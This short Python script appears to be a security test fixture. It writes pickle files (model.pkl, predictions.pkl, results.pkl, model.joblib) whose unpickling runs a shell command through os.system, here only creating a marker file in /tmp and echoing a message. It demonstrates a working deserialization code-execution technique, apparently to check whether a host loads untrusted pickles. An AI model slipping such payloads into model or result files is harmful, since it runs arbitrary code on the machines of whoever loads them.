"""Saves a model whose unpickling runs a shell command (creates a marker file)."""

import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-pickle; echo unpickled-payload-ran",))


model_dir = os.environ["MODEL_DIR"]
with open(os.path.join(model_dir, "model.pkl"), "wb") as handle:
    pickle.dump(Payload(), handle)
# The same payload wherever a careless host might look for results.
for name in ("predictions.pkl", "results.pkl", "model.joblib"):
    with open(os.path.join(model_dir, name), "wb") as handle:
        pickle.dump(Payload(), handle)
